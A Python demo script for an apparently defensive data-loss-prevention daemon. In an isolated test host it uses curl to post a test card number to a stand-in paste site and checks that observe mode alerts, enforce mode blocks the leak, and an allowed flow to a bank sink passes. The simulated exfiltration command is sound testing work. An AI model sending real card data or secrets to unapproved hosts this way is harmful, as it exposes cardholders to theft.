# SPDX-License-Identifier: Apache-2.0
"""./dev demo: one leak alerted and one leak blocked, in a test host of its own; exits 0 only if both happened."""

import pathlib
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
from harness.daemon import Daemon  # noqa: E402
from harness.host import OTHER4, OUTSIDE4, TestHost, Unavailable  # noqa: E402

POLICY = f"""
version: 1
mode: observe
data:
  card: {{detector: payment_card}}
senders:
  shop: {{exe: /usr/bin/curl}}
destinations:
  bank: {{network: {OUTSIDE4}}}
flows:
  - {{name: charge-cards, data: card, from: shop, to: bank, purpose: charge the customer's card}}
violations: {{card: block}}
"""
CARD = "card=4111 1111 1111 1111"


def say(text=""):
    print(text, flush=True)


def told(daemon, sink, verdict):
    finding = daemon.wait_finding(lambda f: f["dst_endpoint"]["port"] == sink.port
                                  and f["unmapped"]["sluice"]["verdict"] == verdict)
    sluice = finding["unmapped"]["sluice"]
    say(f"   finding {finding['finding_info']['uid']}: {sluice['verdict'].upper()}"
        f"  {sluice['sender']['exe']}[{sluice['sender']['pid']}] ({sluice['sender']['user']})"
        f"  {sluice['values']} {sluice['data_class']} {sluice['masked'][0]}")
    say(f"   why: {sluice['reason']}")


def post(host, sink, capture, data):
    say(f"   $ curl -d '{data[:5]}...' http://{sink.address}/")
    result = host.run(["curl", "-sS", "-m", "10", "-d", data, f"http://{sink.address}/"])
    said = (result.stderr or result.stdout).decode().strip()
    say(f"   curl: exit {result.returncode}: {said}")
    say(f"   on the wire: {sum(map(len, capture.sent_to(sink.port)))} bytes sent, card seen: "
        f"{'yes' if capture.contains(b'4111') else 'no'}")
    return result


def main():
    started = time.monotonic()
    with TestHost() as host:
        paste, bank = host.tcp_sink(OTHER4, answer="http"), host.tcp_sink(OUTSIDE4, answer="http")
        with Daemon(host, POLICY) as daemon:
            say("1. mode: observe. curl posts a card number to a paste site that no flow allows.")
            capture = host.capture()
            leaked = post(host, paste, capture, CARD)
            told(daemon, paste, "would_block")
            say("   The request went through: observe never stops anything.\n")
        with Daemon(host, POLICY, mode="enforce") as daemon:
            say("2. mode: enforce. The same leak.")
            capture = host.capture()
            blocked = post(host, paste, capture, CARD)
            told(daemon, paste, "block")
            nothing_left = not capture.contains(b"4111")
            say("\n3. mode: enforce. The same card to the bank, where the flow 'charge-cards' allows it.")
            allowed = post(host, bank, host.capture(), CARD)
            told(daemon, bank, "allow")
    fine = leaked.ok and not blocked.ok and nothing_left and allowed.ok
    say(f"\n{'Done' if fine else 'NOT AS IT SHOULD BE'} in {time.monotonic() - started:.1f} s.")
    return 0 if fine else 1


if __name__ == "__main__":
    try:
        sys.exit(main())
    except Unavailable as missing:
        sys.exit(f"demo: this machine cannot host it: {missing}")
